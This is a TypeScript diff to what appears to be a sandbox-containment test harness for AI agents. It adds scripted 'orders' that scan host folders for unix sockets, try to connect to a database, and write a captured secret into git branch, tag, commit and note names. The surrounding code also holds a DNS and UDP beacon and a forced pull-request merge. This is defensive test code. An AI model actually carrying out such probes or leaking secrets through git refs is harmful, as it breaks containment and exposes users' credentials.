@@ -13,6 +13,9 @@ export interface Targets {
   readonly repository: string;
   /** Somebody who listens on this machine. */
   readonly listener: { readonly port: number };
+  /** The database's address, and a secret that an agent has got hold of. */
+  readonly database: string;
+  readonly secret: string;
   /** Folders of the host that hold secrets. */
   readonly folders: readonly string[];
   /** Distinguishes what this test leaves from what others leave. */
@@ -54,6 +57,15 @@ export function obey({ name, number }: Order, to: Targets): Call | undefined {
     case 'resolve-name':
       return shell(
         `${done}\ngetent hosts ${to.mark}.example.com; node -e "const s=require('dgram').createSocket('udp4'); s.send('${to.mark}', ${to.listener.port}, '127.0.0.1', () => s.close()); s.on('error',()=>{})"`,
+      );
+    case 'open-database':
+      return shell(
+        `${done}\nfind /run /var /tmp /dev /home /opt -xdev -type s 2>/dev/null; node -e "require('net').connect(${new URL(to.database).port}, '127.0.0.1').on('connect', () => console.log('database', 'reached')).on('error', () => {})"; node -e "require('net').connect('/tmp/.s.PGSQL.${new URL(to.database).port}').on('connect', () => console.log('database', 'reached')).on('error', () => {})"`,
+      );
+    case 'leak-by-git':
+      return shell(
+        // What git says of the name it was given would only be an echo.
+        `${done}\n(git checkout -b ${to.secret}; git -c user.name=x -c user.email=x@example.com commit -qam ${to.secret}; git branch -m ${to.secret}; git tag ${to.secret}; git update-ref refs/heads/${to.secret} HEAD; git symbolic-ref HEAD refs/heads/${to.secret}; echo ref: refs/heads/${to.secret} >$(git rev-parse --git-dir)/HEAD; git notes add -m ${to.secret}; git stash) >/dev/null 2>&1`,
       );
     case 'merge-now':
       return curl('PUT', '/pulls/3/merge', '{}');
